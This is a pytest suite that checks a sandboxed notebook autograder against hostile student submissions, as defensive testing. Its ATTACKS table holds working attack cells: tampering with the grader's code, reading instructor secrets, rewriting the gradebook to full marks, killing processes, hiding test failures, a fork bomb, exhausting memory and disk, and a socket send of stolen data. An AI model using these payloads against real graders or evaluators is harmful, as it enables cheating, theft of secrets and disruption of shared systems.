"""Hostile submissions, graded in one batch with a full and a blank one, in the grading sandbox.

Each hostile submission is the blank student notebook plus one extra cell that attacks the grader:
it rewrites course_lib on disk, reads the instructor's files, writes the gradebook, signals or
kills the grader, hides its errors, exhausts memory, processes or disk, or uses the network. The
tests check that the full submission keeps full marks, that no hostile one earns a point (its
honest score is 0), that every student gets a row and the batch has no grading error, that the
checkout and the other students' files are byte-for-byte unchanged, that no solution text reaches
any student's graded notebook or feedback, and that each attack is named for the instructor.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import socket
import sys
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest
from nbformat.v4 import new_code_cell

sys.path.insert(0, str(Path(__file__).parent / "fixtures"))

import course_fixture as cf  # noqa: E402

from course_lib.pipeline.autograde import autograde  # noqa: E402
from course_lib.pipeline.feedback import generate_feedback  # noqa: E402
from course_lib.pipeline.notebook_tools import notebook_text, read_notebook  # noqa: E402
from course_lib.pipeline.release import release  # noqa: E402
from course_lib.pipeline.sandbox import unavailable_reason  # noqa: E402

REASON = unavailable_reason()
pytestmark = pytest.mark.skipif(REASON is not None, reason=f"no grading sandbox here: {REASON}")

ROOT = Path(__file__).resolve().parent.parent
PACKAGE = ROOT / "course_lib"
SECRET_NAME = "instructor-secret.txt"
SECRET = "SECRET-TOKEN-a81f"
#: The written answer's solution: only the instructor's source notebook holds it.
MANUAL_SOLUTION = "A number would impose an order and distances between classes."
CONFIG = """\
from course_lib.pipeline.settings import configure_nbgrader

c = get_config()  # noqa: F821
c.CourseDirectory.course_id = "conditional-gans"
c.Execute.timeout = 20
c.Execute.interrupt_on_timeout = True
c.OverwriteCells.add_missing_cells = True
configure_nbgrader(c)
# small limits, so that the exhaustion attacks end quickly
c.SandboxedKernelManager.memory_mb = 2048
c.SandboxedKernelManager.processes = 64
c.SandboxedKernelManager.work_mb = 64
c.SandboxedKernelManager.tmp_mb = 64
"""

#: A walk over everything the kernel can see (pseudo file systems and the system left out).
WALK = f"""
import os, time
def visible_files(limit=8.0):
    start = time.monotonic()
    for top, dirs, files in os.walk('/'):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/dev', '/usr')]
        for name in files:
            yield os.path.join(top, name)
        if time.monotonic() - start > limit:
            return
targets = [p for p in visible_files() if p.endswith(('.ipynb', '.db', '{SECRET_NAME}', '.csv'))]
print('visible:', targets)
"""

ATTACKS = {
    # rewrite the checker on disk: every later submission of the batch would pass
    "rewrites_course_lib": """
import os, course_lib.grading as g
path = os.path.join(os.path.dirname(g.__file__), '__init__.py')
with open(path, 'a') as f:
    f.write('\\ncheck = lambda *a, **k: None  # hostile\\n')
""",
    # print the instructor's notebooks, the gradebook and any secret into the graded notebook
    "reads_instructor_files": WALK
    + """
for p in targets:
    try:
        print(p, open(p, errors='replace').read()[:20000])
    except OSError as e:
        print(p, e)
""",
    # give itself full marks in any gradebook it can find, and overwrite other notebooks
    "writes_gradebook": WALK
    + """
import sqlite3
for p in targets:
    if p.endswith('.db'):
        db = sqlite3.connect(p)
        db.execute('UPDATE grade SET auto_score = 100')
        db.commit()
    elif p.endswith('.ipynb') and not p.startswith(os.getcwd()):
        open(p, 'w').write('{}')
""",
    # kill the grader, then everything else it can signal
    "kills_grader": """
import os, signal
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
""",
    # swallow every error, so that the failing test cells look passed
    "hides_errors": """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
import os, sys
sys.stderr = open(os.devnull, 'w')
""",
    "exhausts_memory": """
chunks = []
for _ in range(64):
    chunks.append(bytearray(256 * 1024 * 1024))
""",
    "forks_without_end": """
import os, time
children = []
for _ in range(500):
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    children.append(pid)
""",
    "fills_disk": """
block = b'x' * (8 * 1024 * 1024)
for folder in ('.', '/tmp'):
    try:
        with open(folder + '/filler.bin', 'wb') as f:
            for _ in range(256):
                f.write(block)
                f.flush()
    except OSError as e:
        print(folder, e)
raise OSError(28, 'No space left on device')
""",
    "uses_network": """
import socket
s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
s.sendall(b'stolen')
""",
}

REVIEWED = {
    "rewrites_course_lib": "",
    "reads_instructor_files": "files outside",
    "writes_gradebook": "sqlite",
    "kills_grader": "signals",
    "hides_errors": "IPython's custom exception handler",
    "forks_without_end": "a subprocess",
    "uses_network": "the network",
}
REASONS = {
    "exhausts_memory": "ran out of memory",
    "forks_without_end": "hit the process limit",
    "fills_disk": "filled its disk",
}


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            h.update(str(path.relative_to(folder)).encode())
            h.update(path.read_bytes())
    return h.hexdigest()


class _Listener:
    """A TCP server on the host's loopback that records whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    solutions, notebooks = root / "solutions", root / "notebooks"
    cf.write_fixture_solutions(solutions)
    release(solutions, notebooks)
    student_nb = read_notebook(notebooks / f"{cf.NAME}.ipynb")
    course_dir = root / "course"
    course_dir.mkdir()
    (course_dir / SECRET_NAME).write_text(SECRET, encoding="utf-8")
    config = root / "nbgrader_config.py"
    config.write_text(CONFIG, encoding="utf-8")
    listener = _Listener()
    submitted = root / "submitted"
    subs = {"full": cf.solved(student_nb), "blank": copy.deepcopy(student_nb)}
    for name, attack in ATTACKS.items():
        nb = copy.deepcopy(student_nb)
        # right after the setup cell: every exercise and test cell runs after the attack
        nb.cells.insert(2, new_code_cell(attack.replace("{port}", str(listener.port))))
        subs[name] = nb
    for student, nb in subs.items():
        target = submitted / student / cf.NAME / f"{cf.NAME}.ipynb"
        target.parent.mkdir(parents=True)
        target.write_text(notebook_text(nb), encoding="utf-8")
    (submitted / "full" / cf.NAME / SECRET_NAME).write_text(SECRET, encoding="utf-8")
    before = {"package": _tree_digest(PACKAGE), "submitted": _tree_digest(submitted)}
    log: list[str] = []
    try:
        summary = autograde(
            submitted,
            course_dir=course_dir,
            solutions_dir=solutions,
            config_file=config,
            workers=2,
            log=log.append,
        )
    finally:
        listener.close()
    after = {"package": _tree_digest(PACKAGE), "submitted": _tree_digest(submitted)}
    feedback = generate_feedback(course_dir)
    return SimpleNamespace(
        root=root,
        course_dir=course_dir,
        summary=summary,
        rows=_rows(summary.csv_path),
        before=before,
        after=after,
        log=log,
        connections=listener.connections,
        feedback=feedback,
        students=sorted(subs),
    )


def _table(batch) -> str:
    """The batch as the instructor reads it (``pytest -s`` prints it): attack -> points."""
    unchanged = "yes" if batch.after == batch.before else "NO"
    lines = [f"{'submission':24} {'points':>9}  report / review (checkout unchanged: {unchanged})"]
    for student in batch.students:
        row = batch.rows.get(student, {})
        score = f"{row.get('score', '-')}/{cf.AUTO_TOTAL:g}"
        notes = "; ".join(x for x in (row.get("problems"), row.get("review")) if x)
        lines.append(f"{student:24} {score:>9}  {notes[:110]}")
    return "\n".join(lines)


def test_every_student_gets_a_row_and_the_batch_has_no_grading_error(batch):
    print(_table(batch))
    assert set(batch.rows) == set(batch.students), batch.log
    assert batch.summary.errors == [], batch.log
    assert {row["status"] for row in batch.rows.values()} == {"graded"}
    assert {row["sandboxed"] for row in batch.rows.values()} == {"yes"}


def test_the_full_submission_keeps_full_marks_and_the_blank_one_earns_nothing(batch):
    assert float(batch.rows["full"]["score"]) == cf.AUTO_TOTAL, batch.log
    assert float(batch.rows["blank"]["score"]) == 0.0


@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_a_hostile_submission_earns_nothing_it_did_not_earn_honestly(batch, student):
    row = batch.rows[student]
    assert float(row["score"]) == 0.0, (row, batch.log)
    for name in cf.POINTS:
        assert float(row[name]) == 0.0, (name, row)


def test_the_checkout_and_the_other_students_files_are_unchanged(batch):
    assert batch.after == batch.before


def test_the_gradebook_holds_only_what_the_grader_wrote(batch):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{batch.course_dir / 'gradebook.db'}") as gb:
        for student in batch.students:
            submission = gb.find_submission(cf.NAME, student)
            expected = cf.AUTO_TOTAL if student == "full" else 0.0
            assert submission.score == pytest.approx(expected), student


def _printed(path: Path) -> str:
    """Everything the kernel printed into a graded notebook (stream outputs)."""
    nb = read_notebook(path)
    return "".join(
        out.get("text", "")
        for cell in nb.cells
        if cell.cell_type == "code"
        for out in cell.get("outputs", [])
        if out.get("output_type") == "stream"
    )


def test_no_solution_or_secret_reaches_any_graded_notebook_or_feedback(batch):
    graded = sorted((batch.course_dir / "autograded").glob(f"*/{cf.NAME}/*.ipynb"))
    pages = [p for p in batch.feedback.written if p.suffix == ".html"]
    assert len(graded) == len(batch.students) and len(pages) == len(batch.students)
    assert batch.feedback.problems == []
    for path in [*graded, *pages]:
        text = path.read_text(encoding="utf-8", errors="replace")
        assert MANUAL_SOLUTION not in text, path
        assert SECRET not in text, path
        assert "BEGIN SOLUTION" not in text, path
    for page in pages:  # the graded notebooks hold the hidden tests nbgrader ran, not the pages
        assert cf.HIDDEN_MARKER not in page.read_text(encoding="utf-8"), page
    for path in graded:  # and no kernel could read them (in the staged notebook file) and print
        assert cf.HIDDEN_MARKER not in _printed(path), path


def test_the_network_is_out_of_reach(batch):
    assert batch.connections == 0


@pytest.mark.parametrize("student", sorted(REASONS))
def test_an_exhausted_limit_is_named_in_the_report_line(batch, student):
    assert REASONS[student] in batch.rows[student]["problems"], batch.rows[student]


@pytest.mark.parametrize("student", sorted(s for s, why in REVIEWED.items() if why))
def test_attacks_on_the_grading_machinery_are_listed_for_review(batch, student):
    assert REVIEWED[student] in batch.rows[student]["review"], batch.rows[student]
    assert batch.rows["full"]["review"] == batch.rows["blank"]["review"] == ""
